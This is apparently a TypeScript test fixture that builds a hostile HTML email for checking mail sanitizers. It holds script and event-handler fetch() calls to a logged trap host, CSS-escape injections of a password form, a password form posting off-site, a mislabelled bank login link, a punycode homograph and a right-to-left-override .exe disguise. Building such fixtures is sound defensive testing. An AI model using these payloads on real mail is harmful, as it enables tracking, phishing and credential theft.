// A mail that tries everything a mail can try: to load, run, submit, cover, refresh, frame, and lead elsewhere than it says. Shared by
// both browsers' tests; what is left of it is theirs to judge.

/** A picture of another server, which may load after a click. */
export const PICTURE = 'https://pictures.example/one.png';

/** @param trap where every remote part points: an address whose requests are logged */
export const hostileMail = (trap: string): string => `<!doctype html><html><head>
<link rel="stylesheet" href="${trap}/sheet.css"><link rel="prefetch" href="${trap}/prefetch">
<link rel="dns-prefetch" href="//trap.example"><meta http-equiv="refresh" content="0; url=${trap}/refresh">
<base href="${trap}/base/">
<style>@import "${trap}/import.css"; @font-face { font-family: x; src: url("${trap}/font.woff2") }
 body { background: u\\72l("${trap}/escaped.png") } .veil { position: fixed; inset: 0; z-index: 9; background: red }
 small { display: none !important } p { color: rgb(1, 2, 3) }
 [title="\\3c/style>\\3clink rel=preconnect href=${trap}/selector>\\3c a href=https://unnamed.example>no host\\3c/a>"] { color: red }
 i { font-family: "\\3c/style>\\3cform action=${trap}/value>\\3cinput name=password>\\3c/form>" }</style>
<script>fetch("${trap}/script")</script></head>
<body onload="fetch('${trap}/onload')" background="${trap}/background.png">
<div class="veil" style="position: fixed; inset: 0; background-image: url('${trap}/inline.png')">covered?</div>
<p>Kept words.</p>
<img src="${PICTURE}"><img src="http://pictures.example/two.png"><img src="${trap}/three.png" srcset="${trap}/four.png 2x">
<img src=x onerror="fetch('${trap}/onerror')"><svg onload="fetch('${trap}/svg')"><image href="${trap}/svg.png"/></svg>
<video src="${trap}/video.mp4" poster="${trap}/poster.png"></video><audio src="${trap}/audio.mp3" autoplay></audio>
<iframe src="${trap}/frame"></iframe><object data="${trap}/object"></object><embed src="${trap}/embed">
<form action="${trap}/form" target="_top"><input name="password" type="password"><button id="go">Go</button></form>
<a href="javascript:fetch('${trap}/js')">script</a> <a href="data:text/html,x">data</a>
<a href="https://evil.example/login" target="_top" ping="${trap}/ping">https://bank.example/login</a>
<a href="https://xn--pple-43d.com/">apple.com</a><a href="https://bank.example/x\u202etxt.exe">\u202egnp.exe</a>
<a href="mailto:help@shop.example">Help</a>
</body></html>`;
